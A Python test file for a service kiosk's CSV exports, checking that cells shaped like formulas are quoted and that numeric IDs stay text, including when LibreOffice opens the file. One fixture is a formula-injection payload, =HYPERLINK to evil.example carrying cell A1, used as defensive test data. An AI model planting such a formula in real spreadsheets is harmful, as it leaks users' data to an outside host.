"""The CSV exports as a spreadsheet opens them: no name runs as a formula, no identifier turns
into a number. Each file is read back with the csv module (and, where LibreOffice is installed,
by LibreOffice itself) rather than searched for substrings."""

from __future__ import annotations

import copy
import csv
import datetime as dt
import io
import json
import shutil
import subprocess
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest
from support import SMALL_CATALOG

from kiosk.csv_cells import csv_line, id_cell, text_cell
from kiosk.models import GroupFigures, MaterialCheck, MaterialStatus, Report, Window
from kiosk.report_table import GROUP_HEADERS, to_csv

ID = "11010519491231002X"
HOSTILE_MATTER = '=HYPERLINK("http://evil.example/?"&A1,"个体工商户设立登记")'


def read_csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")))


def rated_service_by_hostile_names(hall, clock) -> str:
    """A served, accepted and rated ticket whose matter, window and staff names are formulas,
    handled by a clerk whose login is all digits. Returns the application number."""
    catalog = copy.deepcopy(SMALL_CATALOG)
    catalog["matters"][0]["name"] = HOSTILE_MATTER
    hall.import_catalog(catalog, "测试目录")
    hall.save_window(Window(4, "@SUM(1+1)", ()))
    hall.save_staff("007", "=1+2", "clerk", "pass-0007")
    hall.sign_in(4, "007", "pass-0007")
    t = hall.issue_ticket(matter_code="A-001")
    clock.advance(minutes=1)
    hall.call_next(window=4)
    app = hall.accept(matter_code="A-001", checks=tuple(MaterialCheck(i, str(i), MaterialStatus.RECEIVED) for i in (1, 2, 3)),
                      applicant_name="张三", applicant_id=ID, ticket_id=t.id, window=4, clerk="007")
    hall.finish(t.id, window=4)
    hall.evaluate(t.id, 5)
    return app.number


def test_ratings_csv_quotes_formula_names_and_keeps_identifiers_as_text(hall, clock):
    number = rated_service_by_hostile_names(hall, clock)
    day = clock.now.date()
    head, row = read_csv(hall.export_ratings(day, day, "csv"))
    cell = dict(zip(head, row, strict=True))
    assert cell["事项名称"] == "'" + HOSTILE_MATTER
    assert cell["工作人员"] == "'=1+2"
    assert cell["办件编号"] == "\t" + number and number.isdigit()  # all digits: Excel would round it
    assert cell["工号"] == "\t007"
    assert cell["事项编码"] == "A-001"  # already text to a spreadsheet: written as stored
    assert (cell["窗口"], cell["评价等级"]) == ("4", "5")  # numbers stay numbers


def test_ratings_json_keeps_the_raw_values(hall, clock):
    number = rated_service_by_hostile_names(hall, clock)
    day = clock.now.date()
    (record,) = json.loads(hall.export_ratings(day, day, "json"))["ratings"]
    assert (record["application_number"], record["staff_number"]) == (number, "007")
    assert (record["matter_name"], record["staff_name"]) == (HOSTILE_MATTER, "=1+2")


def hostile_report() -> Report:
    def figures(key: str, label: str) -> GroupFigures:
        return GroupFigures(key, label, 3, 2, 1, 0, 4.5, 8.0, 9.0, 6.0, handed_on=1)

    return Report(
        date_from=dt.date(2026, 11, 25), date_to=dt.date(2026, 11, 25), totals=figures("all", "全部"),
        by_category=(figures("A", "+商事登记"),), by_window=(figures("4", "@SUM(1+1)"),),
        by_clerk=(figures("007", "007"), figures("x", "-2+3")),
        definitions=("=口径",),
    )


def test_report_csv_quotes_formula_names_and_keeps_a_numeric_login_as_text():
    rows = read_csv(to_csv(hostile_report()))
    named = {row[1]: row for row in rows if len(row) == len(GROUP_HEADERS) and row[0] in ("分类", "窗口", "人员")}
    assert set(named) == {"'+商事登记", "'@SUM(1+1)", "\t007", "'-2+3"}
    assert named["'@SUM(1+1)"][2:] == ["3", "2", "1", "0", "1", "4.5", "8.0", "9.0", "6.0"]
    assert ["口径", "'=口径"] in rows
    assert ["统计期间", "2026-11-25 至 2026-11-25"] in rows


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_text_starting_a_formula_gets_a_single_quote(start):
    assert text_cell(start + "1+2") == "'" + start + "1+2"


def test_numbers_and_plain_text_pass_unchanged():
    assert text_cell(-3) == -3 and text_cell(4.5) == 4.5
    assert text_cell("王晓燕") == "王晓燕" and text_cell("a=b") == "a=b"


@pytest.mark.parametrize("value", ["3301062026112500001", "007", "1-2", "2026/11/25", "１２３", "1E5", 7])
def test_an_identifier_a_spreadsheet_would_read_as_a_number_or_date_leads_with_a_tab(value):
    assert id_cell(value) == "\t" + str(value)


@pytest.mark.parametrize("value", ["A-001", "330106-GT-001", "clerk2", "GZ330106202611250003", ""])
def test_an_identifier_that_already_reads_as_text_is_written_as_stored(value):
    assert id_cell(value) == value


def test_a_formula_shaped_identifier_is_quoted_not_tab_led():
    assert id_cell("=1+2") == "'=1+2" and id_cell("-1") == "'-1"


def test_a_line_reads_back_as_its_cells_and_quotes_tabs_and_semicolons():
    line = csv_line(("a,b", 'say "hi"', "007", "x;=1", 5, None), id_columns=frozenset({2}))
    assert line == '"a,b","say ""hi""","\t007","x;=1",5,\r\n'
    assert read_csv(line) == [["a,b", 'say "hi"', "\t007", "x;=1", "5", ""]]


def test_a_plain_line_is_what_csv_writer_writes():
    row = ("人员", "王晓燕", 3, 2, 1, 0, 4.5, 8.0, 9.0, 6.0)
    out = io.StringIO()
    csv.writer(out).writerow(row)
    assert csv_line(row) == out.getvalue()


# --- as LibreOffice opens them --------------------------------------------------------------

_NS = {"table": "urn:oasis:names:tc:opendocument:xmlns:table:1.0",
       "office": "urn:oasis:names:tc:opendocument:xmlns:office:1.0",
       "text": "urn:oasis:names:tc:opendocument:xmlns:text:1.0"}


def _shown(element: ET.Element) -> str:
    """A paragraph's text with its <text:tab/> elements as the tabs they stand for."""
    text = element.text or ""
    for child in element:
        text += ("\t" if child.tag == f"{{{_NS['text']}}}tab" else _shown(child)) + (child.tail or "")
    return text


def libreoffice_cells(csv_text: str, tmp_path: Path) -> list[list[tuple[str, str]]]:
    """The sheet LibreOffice makes of the CSV, as (value type, shown text) per cell.

    Imported with comma, tab and semicolon all as separators: the importer's worst case."""
    src = tmp_path / "export.csv"
    src.write_text(csv_text, encoding="utf-8-sig", newline="")
    subprocess.run(["libreoffice", f"-env:UserInstallation=file://{tmp_path}/lo-profile", "--headless",
                    "--infilter=CSV:44/9/59,34,76", "--convert-to", "fods", "--outdir", str(tmp_path), str(src)],
                   check=True, capture_output=True, timeout=240)
    root = ET.parse(tmp_path / "export.fods").getroot()
    sheet = []
    for row in root.iter(f"{{{_NS['table']}}}table-row"):
        cells = []
        for c in row.findall("table:table-cell", _NS):
            kind = c.get(f"{{{_NS['office']}}}value-type", "")
            text = "".join(_shown(p) for p in c.findall("text:p", _NS))
            repeat = int(c.get(f"{{{_NS['table']}}}number-columns-repeated", "1"))
            cells += [(kind, text)] * min(repeat, 20)
        sheet.append(cells)
    return sheet


@pytest.mark.skipif(shutil.which("libreoffice") is None, reason="LibreOffice is not installed")
def test_libreoffice_opens_the_ratings_export_with_every_digit_and_no_formula(hall, clock, tmp_path):
    number = rated_service_by_hostile_names(hall, clock)
    day = clock.now.date()
    head, row = libreoffice_cells(hall.export_ratings(day, day, "csv"), tmp_path)[:2]
    cell = {h[1]: c for h, c in zip(head, row, strict=False) if h[1]}
    assert cell["办件编号"] == ("string", "\t" + number)
    assert cell["工号"] == ("string", "\t007")
    assert cell["事项名称"] == ("string", "'" + HOSTILE_MATTER)
    assert cell["工作人员"] == ("string", "'=1+2")
    assert cell["窗口"] == ("float", "4")
